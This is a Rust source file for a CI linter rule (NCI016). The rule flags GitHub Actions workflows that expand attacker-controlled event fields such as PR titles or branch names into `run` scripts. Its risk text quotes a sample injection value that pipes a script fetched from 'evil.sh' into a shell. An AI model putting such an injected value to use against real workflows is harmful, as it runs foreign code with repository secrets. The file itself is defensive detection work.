//! NCI016: attacker-controlled GitHub contexts expanded into a script.

use std::sync::LazyLock;

use regex::Regex;

use super::prelude::*;

pub struct TemplateInjection;

static META: RuleMeta = RuleMeta {
    id: "NCI016",
    name: "template-injection",
    severity: Severity::High,
    title: "GitHub template injection in `run`",
    risk: "`${{ }}` is expanded into the script text before the shell sees it: a pull request \
           title, branch name or comment body such as `\"; curl evil.sh | sh; #` becomes code \
           that runs with the workflow's token and secrets.",
    safer: "Pass the value through an environment variable (`env: {TITLE: ${{ \
            github.event.pull_request.title }}}`) and use `\"$TITLE\"` in the script.",
    reference: "GitHub Actions security hardening: understanding the risk of script injections",
    help_uri: Some(
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
    ),
};

/// `${{ ... }}` holding `github.event.*` or `github.head_ref`.
static EXPRESSION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{\{[^}]*?\b(?P<ctx>github\.(?:event\.[A-Za-z0-9_.*\[\]'-]+|head_ref))[^}]*\}\}")
        .expect("valid regex")
});

/// Event fields that are numbers, ids or hashes: not attacker-written text.
fn is_safe_field(context: &str) -> bool {
    let last = context.rsplit('.').next().unwrap_or(context);
    matches!(
        last,
        "number"
            | "id"
            | "sha"
            | "before"
            | "after"
            | "run_id"
            | "run_number"
            | "merged"
            | "draft"
            | "created"
            | "deleted"
            | "forced"
            | "action"
    )
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check(&self, job: &Job, _cx: &Context, out: &mut Vec<Hit>) {
        for (step, line) in script_lines(job) {
            for caps in EXPRESSION.captures_iter(line) {
                let context = &caps["ctx"];
                if is_safe_field(context) {
                    continue;
                }
                out.push(
                    Hit::new(
                        &step.loc,
                        format!("`{context}` is expanded into the script"),
                    )
                    .at_text(&caps[0]),
                );
            }
        }
    }
}
